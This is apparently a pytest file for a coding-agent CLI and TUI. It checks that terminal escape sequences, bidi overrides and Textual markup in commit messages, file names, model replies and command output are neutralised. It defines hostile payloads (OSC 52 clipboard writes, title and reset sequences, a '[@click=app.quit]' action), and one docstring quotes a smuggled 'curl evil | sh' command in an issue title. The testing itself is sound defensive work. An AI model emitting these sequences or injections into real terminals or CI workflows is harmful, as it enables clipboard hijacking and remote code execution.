"""Issue #11, item 7: escape sequences in repository and model text never reach the terminal.

A commit message, a file name, a model's reply or a sandboxed command's output can carry
OSC 52 (writes the clipboard), OSC 0 (window title), CSI 2J / ESC c (clear, reset), their
8-bit C1 forms (U+009B is CSI) and bidi overrides (a file name that reads backwards). Text
output strips them; JSON output keeps every string exact and prints those characters as
\\u escapes; the app neither lets them through to the terminal nor reads such text as
Textual markup (`[@click=...]` runs an action, a stray `[/bold]` crashed the app).

Everything runs the real way: a real repository mined into a real store, `evoagent` through
click (tests/cli_helpers.py), `fix` with a scripted hostile model in the real sandbox, and
the app driven by Pilot.
"""

from __future__ import annotations

import ast
import asyncio
import json
import re
import time
from pathlib import Path

import pytest
from cli_helpers import invoke
from evoagent.agent.scripted_provider import ScriptedReply, ScriptedToolCall

# Every character a terminal may act on, except newline and tab: C0, DEL, C1, bidi controls.
UNSAFE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")

OSC52 = "\x1b]52;c;ZXZpbCBjbGlwYm9hcmQ=\x07"  # clipboard := "evil clipboard"
TITLE = "\x1b]0;pwned\x1b\\"  # window title, ST-terminated
CLEAR = "\x1b[2J\x1b[H\x1bc"  # clear screen, home, full reset
C1 = "\x9b31m\x9d2;c1 title\x9c"  # 8-bit CSI and OSC
BIDI = "\u202e"  # right-to-left override

SUBJECT = f"Fix clipboard sync{OSC52} in the pager{TITLE}{CLEAR} now{C1} done{BIDI}fdp.exe"
BODY = f"The pager lost its clipboard.{OSC52}\n\nSecond paragraph{CLEAR}."
PATH = f"pager/clip{TITLE}board{C1}{BIDI}yp.py"
CODE = "def clipboard_sync(pager):\n    return pager.clipboard\n"
MODEL_TEXT = f"I will look at the clipboard{OSC52} code{TITLE}{CLEAR}{C1} next{BIDI}."


def assert_terminal_safe(output: str) -> None:
    found = sorted({f"U+{ord(c):04X}" for c in UNSAFE.findall(output)})
    assert not found, f"control characters reached the terminal: {found}\n{output!r}"


@pytest.fixture
def hostile_repo(git_repo):
    """Two commits; the second's message and new file's name carry every kind of escape."""
    git_repo.commit("Start the pager", {"pager/__init__.py": "", "README.md": "# pager\n"})
    sha = git_repo.commit(f"{SUBJECT}\n\n{BODY}", {PATH: CODE})
    assert invoke(git_repo.path, "mine").exit_code == 0
    return git_repo, sha


# -- the one function ---------------------------------------------------------------


def test_terminal_safe_drops_sequences_whole_and_keeps_text():
    from evoagent.agent.terminal_text import terminal_safe, terminal_safe_json

    assert terminal_safe(f"a{OSC52}b{TITLE}c{CLEAR}d") == "abcd"
    assert terminal_safe("x\x1b[38;5;196mred\x1b[0m y") == "xred y"
    assert terminal_safe("dcs\x1bPq#0;2;0;0;0\x1b\\ apc\x1b_payload\x1b\\ end") == "dcs apc end"
    assert terminal_safe(f"c1{C1}!") == "c1!"
    # Unterminated or unknown: the introducer goes, the rest stays visible and inert.
    assert terminal_safe("osc\x1b]52;c;abc") == "osc52;c;abc"
    assert terminal_safe("\x1b[31") == "31"
    assert terminal_safe("bell\x07 bs\x08 cr\r del\x7f nul\x00") == "bell bs cr del nul"
    assert terminal_safe(f"evil{BIDI}fdp.exe \u2066iso\u2069") == "evilfdp.exe iso"
    plain = "tabs\tand\nnewlines, héllo ✓ 日本語 עברית"
    assert terminal_safe(plain) is plain
    cleaned = terminal_safe(SUBJECT + BODY + PATH + MODEL_TEXT)
    assert_terminal_safe(cleaned)
    assert terminal_safe(cleaned) == cleaned
    # JSON keeps every string exact and writes these characters as \u escapes.
    data = {"s": SUBJECT, "p": PATH, "plain": plain}
    for text in (json.dumps(data, ensure_ascii=False, indent=2), json.dumps(data)):
        safe = terminal_safe_json(text)
        assert_terminal_safe(safe.replace("\n", ""))
        assert json.loads(safe) == data


# -- recall and locate ----------------------------------------------------------------


def test_recall_prints_no_escapes_and_its_json_is_exact(hostile_repo):
    repo, sha = hostile_repo
    text = invoke(repo.path, "recall", "clipboard", "sync")
    assert text.exit_code == 0
    assert_terminal_safe(text.output)
    assert f"{sha[:10]}  2023-11-14  Fix clipboard sync in the pager now donefdp.exe" in text.output
    assert "pager/clipboardyp.py" in text.output

    result = invoke(repo.path, "recall", "clipboard", "sync", "--json")
    assert result.exit_code == 0
    hit = next(h for h in json.loads(result.stdout) if h.get("sha") == sha)
    assert hit["subject"] == SUBJECT
    assert hit["files"] == [PATH]
    assert_terminal_safe(result.stdout.replace("\n", ""))


def test_locate_prints_no_escapes_and_its_json_is_exact(hostile_repo):
    repo, _ = hostile_repo
    issue = "clipboard_sync loses the clipboard in the pager"
    text = invoke(repo.path, "locate", issue)
    assert text.exit_code == 0
    assert_terminal_safe(text.output)
    assert "pager/clipboardyp.py" in text.output

    result = invoke(repo.path, "locate", issue, "--json")
    assert result.exit_code == 0
    assert PATH in [f["path"] for f in json.loads(result.stdout)["files"]]
    assert_terminal_safe(result.stdout.replace("\n", ""))


# -- fix: the model's text and the tools' output --------------------------------------


@pytest.mark.parametrize("output_format", ["text", "stream-json", "json"])
def test_fix_shows_the_models_text_without_escapes(git_repo, script, output_format):
    git_repo.commit("Start", {"README.md": "# notes\n"})  # no test command: a quick run
    model = script([
        ScriptedReply(text=MODEL_TEXT, tool_calls=[ScriptedToolCall("read", {"path": PATH})]),
        ScriptedReply(tool_calls=[ScriptedToolCall("finish", {"summary": MODEL_TEXT})]),
    ])
    issue = f"The pager{OSC52} loses the clipboard{C1}"
    result = invoke(git_repo.path, "fix", issue, "--model", model, "--output-format", output_format)
    assert result.exit_code == 1, result.output  # nothing proven: no tests
    if output_format == "text":
        assert_terminal_safe(result.output)
        assert "I will look at the clipboard code next." in result.output
        assert "pager/clipboardyp.py: no such file" in result.output  # the failed read
        return
    if output_format == "json":
        report = json.loads(result.stdout)
        assert report["issue"] == issue
    else:
        events = [json.loads(line) for line in result.stdout.splitlines()]
        assert {"type": "message", "text": MODEL_TEXT}.items() <= next(
            e for e in events if e["type"] == "message").items()
        failed = next(e for e in events if e["type"] == "tool_result")
        assert failed["output"] == f"{PATH}: no such file"
    assert_terminal_safe(result.output.replace("\n", ""))


# -- the other commands ---------------------------------------------------------------


def test_tasks_list_and_show_print_no_escapes(git_repo):
    from evoagent.agent.tasks.store import Task, TaskStore

    git_repo.commit("Start", {"README.md": "# pager\n"})
    task = Task(
        id="pager-0123456789ab", repo="pager", base_commit="a" * 40, commit="b" * 40, patch="",
        test_patch="", fail_to_pass=[f"tests/test_{TITLE}clip.py::test_sync"], pass_to_pass=[],
        test_command="pytest", test_files=[f"tests/test_{TITLE}clip.py"],
        created_at="2023-11-14T00:00:00+00:00", problem_statement=f"{SUBJECT}\n\n{BODY}",
    )
    TaskStore(git_repo.path / ".evoagent" / "tasks").add_task(task)
    listed = invoke(git_repo.path, "tasks", "list")
    shown = invoke(git_repo.path, "tasks", "show", task.id)
    for result in (listed, shown):
        assert result.exit_code == 0, result.output
        assert_terminal_safe(result.output)
    assert "Fix clipboard sync in the pager" in listed.output
    assert "The pager lost its clipboard." in shown.output
    exact = json.loads(invoke(git_repo.path, "tasks", "show", task.id, "--json").stdout)
    assert exact["problem_statement"] == f"{SUBJECT}\n\n{BODY}"


CLI_DIR = Path(__file__).resolve().parents[2] / "agent" / "cli"
OUTPUT_LAYER = {"output.py"}
"""The only module that may write to the terminal directly (its `echo` sanitises)."""
UNTOUCHED = {("memory_cmds.py", "mine")}
"""Prints only counts; owned by another change (its output is numbers and fixed words)."""


def _direct_writes(tree: ast.AST) -> list[tuple[str, int]]:
    """(enclosing function, line) of every click.echo / click.secho / print / .write call."""
    found: list[tuple[str, int]] = []

    def visit(node: ast.AST, function: str) -> None:
        for child in ast.iter_child_nodes(node):
            name = function
            if isinstance(child, ast.FunctionDef | ast.AsyncFunctionDef):
                name = child.name if function == "" else function
            if isinstance(child, ast.Call):
                func = child.func
                dotted = ast.unparse(func)
                if dotted in {"click.echo", "click.secho", "print"} or dotted.endswith(
                        ("stdout.write", "stderr.write")):
                    found.append((name, child.lineno))
            visit(child, name)

    visit(tree, "")
    return found


def test_every_cli_print_goes_through_the_sanitising_echo():
    """A guard for the commands not played end to end above (knowledge, bench, evolve,
    approve, init, demo, errors): text output only through `output.echo`."""
    offenders = []
    for module in sorted(CLI_DIR.glob("*.py")):
        if module.name in OUTPUT_LAYER:
            continue
        for function, line in _direct_writes(ast.parse(module.read_text())):
            if (module.name, function) not in UNTOUCHED:
                offenders.append(f"{module.name}:{line} in {function or '<module>'}")
    assert not offenders, "write through output.echo instead: " + ", ".join(offenders)


# -- the app ----------------------------------------------------------------------------

MARKUP = "[/bold][@click=app.quit]quit[/][link=https://example.com]x[/link]"
COMMAND = f"echo '{OSC52}{CLEAR}{C1}{MARKUP}'"
FINDER_FILE = f"notes[@click=app.quit]quit[b]x{TITLE}.md"  # markup without a slash


def _frame(app) -> str:
    """The bytes the app writes to a real terminal for its current screen (App._display
    writes exactly this `render_segments`; the headless driver drops it)."""
    return app.screen._compositor.render_update(full=True).render_segments(app.console)


def _visible(frame: str) -> str:
    """The frame without Textual's own sequences: cursor moves and SGR colours (CSI) and
    OSC 8 hyperlinks are what a frame is made of; anything left is content."""
    frame = re.sub(r"\x1b\[[0-9;:?<=>]*[A-Za-z]", "", frame)
    return re.sub(r"\x1b\]8;[^\x1b\x07]*(?:\x1b\\|\x07)", "", frame)


async def _wait(pilot, condition, what: str, timeout: float = 60.0) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out waiting for {what}")
        await pilot.pause(0.05)


def test_app_shows_hostile_text_as_inert_text(git_repo, script, monkeypatch):
    """A hostile model reply, command, command output, commit and file name in the app:
    nothing crashes, markup is shown literally and no control character is drawn."""
    from evoagent.tui.app import EvoApp
    from evoagent.tui.screens.file_finder import FileFinderScreen
    from evoagent.tui.screens.memory import MemoryScreen
    from evoagent.tui.widgets.command_output import CommandOutput
    from evoagent.tui.widgets.tool_call import ToolCallView

    monkeypatch.setenv("OLLAMA_HOST", "127.0.0.1:9")  # no model probe reaches a server
    git_repo.commit("Start the pager", {"README.md": "# pager\n"})
    git_repo.commit(f"{SUBJECT} {MARKUP}\n\n{BODY}", {PATH: CODE, FINDER_FILE: "notes\n"})
    model = script([
        ScriptedReply(text=MODEL_TEXT + MARKUP,
                      tool_calls=[ScriptedToolCall("run", {"command": COMMAND})]),
        ScriptedReply(tool_calls=[ScriptedToolCall("finish", {"summary": "nothing"})]),
    ])

    async def play() -> None:
        app = EvoApp(root=git_repo.path, model=model, mode="full_auto", mine_on_start=True)
        async with app.run_test(size=(160, 50)) as pilot:
            await _wait(pilot, lambda: app.status.model and app.status.memories == 2, "ready",
                        timeout=120)
            app.main.prompt.value = "the pager loses the clipboard"
            await pilot.press("enter")
            await _wait(pilot, lambda: app.main.query(CommandOutput)
                        and not app.status.busy, "the run", timeout=120)
            for view in (*app.main.query(ToolCallView), *app.main.query(CommandOutput)):
                view.collapsed = False
            await pilot.pause(0.2)
            conversation = _visible(_frame(app))
            assert_terminal_safe(conversation)
            assert "[/bold][@click=app.quit]quit[/]" in conversation  # the title, literally
            assert "I will look at the clipboard" in conversation

            await pilot.press("f2")
            screen = app.screen
            assert isinstance(screen, MemoryScreen)
            screen.search_input.value = "clipboard sync"
            await pilot.press("enter")
            await _wait(pilot, lambda: screen.hits.option_count, "hits")
            await pilot.pause(0.2)
            memory = _visible(_frame(app))
            assert_terminal_safe(memory)
            assert "Fix clipboard sync" in memory and "The pager lost its clipboard." in memory
            await pilot.press("escape")

            app.main.prompt.value = ""
            app.main.prompt.focus()
            await pilot.press("@")
            await _wait(pilot, lambda: isinstance(app.screen, FileFinderScreen), "finder")
            await _wait(pilot, lambda: app.screen.options.option_count, "files")
            await pilot.press("n", "o", "t", "e", "s")
            await pilot.pause(0.2)
            finder = _visible(_frame(app))
            assert_terminal_safe(finder)
            assert "notes[@click=app.quit]quit[b]x" in finder
            await pilot.press("enter")
            await _wait(pilot, lambda: not isinstance(app.screen, FileFinderScreen), "pick")
            assert FINDER_FILE in app.main.prompt.value  # the real name, untouched
            assert app.is_running

    asyncio.run(play())


# -- item 8: the README's GitHub Actions example ---------------------------------------


def test_readme_actions_example_passes_untrusted_text_through_env_only():
    """`${{ }}` inside `run:` is pasted into the script before the shell parses it: an
    issue title like `"; curl evil | sh; "` would run. Values go through env:, quoted."""
    yaml = pytest.importorskip("yaml")
    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text()
    workflows = [yaml.safe_load(block) for block in re.findall(r"```ya?ml\n(.*?)```", readme, re.S)]
    steps = [step for w in workflows if isinstance(w, dict) and "jobs" in w
             for job in w["jobs"].values() for step in job.get("steps", [])]
    assert any("gh pr create" in step.get("run", "") for step in steps)
    for step in steps:
        assert "${{" not in step.get("run", ""), step["run"]
    env = next(step["env"] for step in steps if "gh pr create" in step.get("run", ""))
    assert env["ISSUE_TITLE"] == "${{ github.event.issue.title }}"
    assert '--title "$ISSUE_TITLE"' in next(s["run"] for s in steps if "gh pr create" in s.get("run", ""))
